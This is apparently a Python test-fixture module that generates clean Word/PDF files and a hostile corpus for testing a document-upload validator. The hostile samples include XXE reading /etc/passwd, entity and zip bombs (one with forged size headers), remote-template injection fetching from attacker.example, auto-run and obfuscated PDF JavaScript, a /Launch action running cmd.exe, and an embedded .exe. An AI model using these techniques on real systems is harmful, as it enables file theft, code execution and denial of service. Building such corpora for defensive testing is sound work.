"""Documents made in code for the tests: good ones and a hostile corpus (no binary blobs in git)."""

from __future__ import annotations

import io
import struct
import zipfile

from docx import Document
from docx.oxml.ns import qn
from docx.shared import Pt
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

VIETNAMESE = "Quyết định về việc ban hành Quy chế làm việc của Chính phủ"


# --- good documents ------------------------------------------------------------------------------

def docx_bytes(*paragraphs: str, font: str = "Times New Roman") -> bytes:
    """A Word document in Times New Roman (as ministries write them)."""
    document = Document()
    style = document.styles["Normal"]
    style.font.name, style.font.size = font, Pt(13)
    fonts = style.element.get_or_add_rPr().get_or_add_rFonts()
    for slot in ("w:ascii", "w:hAnsi", "w:eastAsia", "w:cs"):
        fonts.set(qn(slot), font)
    for text in paragraphs or (VIETNAMESE,):
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pdf_bytes(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def raw_pdf(*objects: bytes, root: int = 1, header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF written by hand from its objects (numbered from 1), with a correct xref table:
    for what pypdf's writer would not write (e.g. names spelt with #xx escapes)."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, xref)
    return bytes(out)


def _pdf_with(update) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    update(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _zip(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- hostile .docx -------------------------------------------------------------------------------

_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_xxe() -> bytes:
    """An external entity reading a local file into the text."""
    document = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
                b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                b'<w:document ' + _W + b'><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
                b'</w:body></w:document>')
    return _zip({**docx_entries(docx_bytes()), "word/document.xml": document})


def docx_billion_laughs() -> bytes:
    """Nested entities that expand to gigabytes."""
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10))
    document = (b'<?xml version="1.0"?>\n<!DOCTYPE w:document [' + entities + b']>\n'
                b'<w:document ' + _W + b'><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
                b'</w:body></w:document>')
    return _zip({**docx_entries(docx_bytes()), "word/document.xml": document})


def docx_zip_bomb(unpacked: int) -> bytes:
    """A member of ``unpacked`` zero bytes: it compresses a thousandfold."""
    return _zip({**docx_entries(docx_bytes()), "word/media/zeros.bin": bytes(unpacked)})


def docx_lying_zip_bomb(unpacked: int) -> bytes:
    """The same bomb, but its headers claim the member is 1 KB: only counting what really comes
    out of the decompressor stops it."""
    data = bytearray(docx_zip_bomb(unpacked))
    name = b"word/media/zeros.bin"
    # (signature, offset of the uncompressed size, of the name's length, of the name): the
    # local file header and the central directory entry.
    for signature, size_at, length_at, name_at in ((b"PK\x03\x04", 22, 26, 30),
                                                   (b"PK\x01\x02", 24, 28, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            length = struct.unpack_from("<H", data, start + length_at)[0]
            if data[start + name_at:start + name_at + length] == name:
                struct.pack_into("<I", data, start + size_at, 1024)
            start += 4
    return bytes(data)


def docx_with_macros() -> bytes:
    return _zip({**docx_entries(docx_bytes()), "word/vbaProject.bin": b"\x00" * 64})


def docx_remote_template() -> bytes:
    """A template fetched from a server when the document opens (template injection)."""
    rels = (b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    return _zip({**docx_entries(docx_bytes()), "word/_rels/settings.xml.rels": rels})


def zip_without_document() -> bytes:
    return _zip({"readme.txt": b"hello"})


# --- hostile PDFs --------------------------------------------------------------------------------

def pdf_truncated() -> bytes:
    data = pdf_bytes(3)
    return data[: len(data) * 2 // 3]


def pdf_malformed() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"


def pdf_open_action_javascript() -> bytes:
    def update(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned')")})
    return _pdf_with(update)


def pdf_javascript_name_tree() -> bytes:
    """Document-level JavaScript in the catalog's /Names tree, run when the file opens."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Names [(init) 5 0 R] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def pdf_obfuscated_javascript() -> bytes:
    """/OpenAction with the action type spelt ``/J#61vaScript`` (#61 is "a")."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_launch() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")


def pdf_embedded_file() -> bytes:
    return _pdf_with(lambda writer: writer.add_attachment("invoice.exe", b"MZ\x90\x00" * 16))


def pdf_encrypted(user_password: str = "secret") -> bytes:  # noqa: S107 - a test file
    return _pdf_with(lambda writer: writer.encrypt(user_password, owner_password="owner",
                                                   algorithm="AES-128"))


def exe_renamed() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(2000)


def old_word_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)
